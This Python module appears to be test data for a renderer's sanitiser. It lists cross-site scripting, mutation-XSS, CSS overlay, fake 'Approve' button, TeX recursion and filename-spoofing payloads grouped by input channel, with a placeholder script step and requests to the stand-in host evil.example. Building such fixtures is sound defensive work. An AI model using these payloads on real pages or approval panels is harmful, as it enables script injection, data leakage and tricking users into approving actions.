"""Payloads of somebody who writes what a panel draws: by the place that they arrive at.

`STEP` stands for what a payload would run; `OUT` is an address that must not be asked.
"""

from __future__ import annotations

STEP = "window.ran=1"
OUT = "https://evil.example/x"

# As the text of a reply.
MARKDOWN = [
    f"<script>{STEP}</script>",
    f"<img src=x onerror={STEP}>",
    f'<svg onload="{STEP}"></svg>',
    f"<iframe srcdoc='<script>parent.{STEP}</script>'></iframe>",
    f"<details open ontoggle={STEP}>x</details>",
    f"[click](javascript:{STEP})",
    f"[click](JaVaScRiPt:{STEP})",
    f"[click](java\tscript:{STEP})",
    f"[click](&#106;avascript:{STEP})",
    f"[click](<javascript:{STEP}>)",
    f"[click](vbscript:{STEP})",
    f"[click](data:text/html,<script>{STEP}</script>)",
    "[click](file:///etc/passwd)",
    f"[click][ref]\n\n[ref]: javascript:{STEP}",
    f"<javascript:{STEP}>",
    f"![alt]({OUT}.png)",
    f"![alt](javascript:{STEP})",
    "![alt](data:text/html;base64,PHNjcmlwdD4=)",
    f'![alt]({OUT} "title\\" onerror={STEP}")',
    f"![a][ref]\n\n[ref]: {OUT}",
    f"{OUT}.png",
    f"<{OUT}>",
    f"```html\n<script>{STEP}</script>\n```",
    f"```<img src=x onerror={STEP}>\ncode\n```",
    f"`<img src=x onerror={STEP}>`",
    f"| a |\n|---|\n| <img src=x onerror={STEP}> |",
    f"- [ ] <input autofocus onfocus={STEP}>",
    f"# <a name=x onmouseover={STEP}>x</a>",
    f"&lt;script&gt;{STEP}&lt;/script&gt;",
    f"text[^1]\n\n[^1]: <img src=x onerror={STEP}> [a](javascript:{STEP})",
    '<button class="cn-button cn-primary">Approve</button>',
    '<div role="button" aria-label="Approve">Approve</div>',
    "<style>.cn-approval{display:none}</style>",
    f'<base href="{OUT}"><link rel=stylesheet href="{OUT}"><meta http-equiv=refresh content="0;url={OUT}">',
    f'<form action="{OUT}"><input type=submit value=Approve></form>',
    "safe\u202egpj.exe and \u2066hidden\u2069",
    "<!--><img src=x onerror=" + STEP + ">-->",
    "\x00<img src=x onerror=" + STEP + ">",
]

# As TeX.
TEX = [
    f"\\href{{javascript:{STEP}}}{{x}}",
    f"\\url{{javascript:{STEP}}}",
    f"\\includegraphics{{{OUT}}}",
    "\\htmlData{x=y}{z}",
    "\\htmlClass{cn-primary}{z}",
    "\\htmlId{view}{z}",
    "\\htmlStyle{position:fixed}{z}",
    f"\\text{{<img src=x onerror={STEP}>}}",
    "\\def\\a{\\a\\a}\\a",
    "\\newcommand{\\b}{\\b\\b}\\b",
    "\\rule{9999em}{9999em}",
    "\\unicode{<script>}",
]

# As the `text/html` of an output.
HTML = [
    f"<script>{STEP}</script>",
    f"<img src=x onerror={STEP}>",
    f'<img src="{OUT}.png" srcset="{OUT} 2x">',
    f'<a href="javascript:{STEP}">x</a>',
    f'<a href="java&#10;script:{STEP}">x</a>',
    f'<a href="{OUT}" ping="{OUT}">x</a>',
    f"<iframe src='{OUT}'></iframe><iframe srcdoc='<script>parent.{STEP}</script>'></iframe>",
    f"<object data='{OUT}'></object><embed src='{OUT}'>",
    f"<video src='{OUT}' onerror={STEP}></video><audio src='{OUT}'></audio><picture><source srcset='{OUT}'></picture>",
    f"<link rel=stylesheet href='{OUT}'><style>@import '{OUT}';.cn-approval{{display:none}}</style>",
    f"<meta http-equiv=refresh content='0;url={OUT}'><base href='{OUT}'>",
    f"<form action='{OUT}'><input name=q autofocus onfocus={STEP}><button>Approve</button></form>",
    '<button class="cn-button cn-primary">Approve</button><input type=button value=Approve>',
    '<div role=button tabindex=0 aria-label=Approve class="cn-button cn-primary">Approve</div>',
    '<div style="position:fixed;inset:0;z-index:99999;background:red">cover</div>',
    '<div style="position:absolute;top:-2000px;left:-2000px;width:9000px;height:9000px">cover</div>',
    '<div style="margin-top:-900px;height:2000px;transform:scale(9);background:red">cover</div>',
    f"<div style='background:url({OUT})'>x</div><table background='{OUT}'><tr><td background='{OUT}'>x</table>",
    "<div style='background-color:red;color:blue;behavior:url(x)'>kept</div>",
    '<div class="cn-approval" id="view" data-approval-id="x"><span class="cn-spin">x</span></div>',
    f"<details open ontoggle={STEP}><summary>x</summary></details>",
    f"<template><script>{STEP}</script></template><noscript><img src=x onerror={STEP}></noscript>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={STEP}&gt;">',
    f'<svg></p><style><a id="</style><img src=1 onerror={STEP}>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={STEP}>",
    f"<select><option><style></option></select><img src=x onerror={STEP}></style>",
    f"<x-foo onclick={STEP}>custom</x-foo><slot name=x>s</slot>",
    f"<body onload={STEP}><frameset onload={STEP}>",
    f"<marquee onstart={STEP}>x</marquee><dialog open>Approve</dialog>",
    f"<p contenteditable onfocus={STEP} autofocus accesskey=a>x</p>",
    "<a href='#view' target=_top name=kernel>x</a><img name=kernel src=''>",
    f"<div popover id=p>x</div><a popovertarget=p href='{OUT}'>x</a>",
]

# As the `image/svg+xml` of an output.
SVG = [
    f"<svg onload={STEP}><script>{STEP}</script></svg>",
    f"<svg><a xlink:href='javascript:{STEP}'><text y=10>x</text></a></svg>",
    f"<svg><a href='javascript:{STEP}'><text y=10>x</text></a></svg>",
    f"<svg><use href='{OUT}#a'/><use xlink:href='data:image/svg+xml,<svg id=a onload={STEP}/>#a'/></svg>",
    f"<svg><image href='{OUT}' width=10 height=10 /><image xlink:href='{OUT}'/></svg>",
    f"<svg><foreignObject><body onload={STEP}><button>Approve</button></body></foreignObject></svg>",
    f"<svg><animate attributeName=href values='javascript:{STEP}'/><set attributeName=onload to={STEP} /></svg>",
    f"<svg><style>@import '{OUT}'; *{{fill:url({OUT})}}</style><rect fill='url({OUT}#a)' width=5 height=5 /></svg>",
    f"<svg><filter id=f><feImage href='{OUT}'/></filter><rect filter='url(#f)' width=5 height=5 /></svg>",
    "<svg style='position:fixed;inset:0' width=9999 height=9999><rect width=9999 height=9999 /></svg>",
    f"<svg><desc><![CDATA[</desc><script>{STEP}</script>]]></svg>",
    f"<svg><title><img src=x onerror={STEP}></title><text y=10>x</text></svg>",
]

# MathML, as html.
MATHML = [
    f"<math href='javascript:{STEP}'><mtext>x</mtext></math>",
    f"<math><mtext xlink:href='javascript:{STEP}'>x</mtext></math>",
    f"<math><maction actiontype='statusline#{OUT}' xlink:href='javascript:{STEP}'>x</maction></math>",
    f"<math><semantics><annotation-xml encoding='text/html'><img src=x onerror={STEP}></annotation-xml></semantics>",
    f"<math><mi style='background:url({OUT})' class='cn-primary'>x</mi></math>",
    f"<math><annotation encoding='text/html'><script>{STEP}</script></annotation></math>",
]

# As names and other short texts: of files, actions, arguments, sources, variables, errors.
NAMES = [
    f"<img src=x onerror={STEP}>.png",
    f"../../etc/<script>{STEP}</script>",
    "report\u202efdp.exe",
    f'" onmouseover="{STEP}',
    f"javascript:{STEP}",
    "Approve",
    f"{{{{constructor.constructor('{STEP}')()}}}}",
    "__proto__",
]

ALL = MARKDOWN + TEX + HTML + SVG + MATHML + NAMES
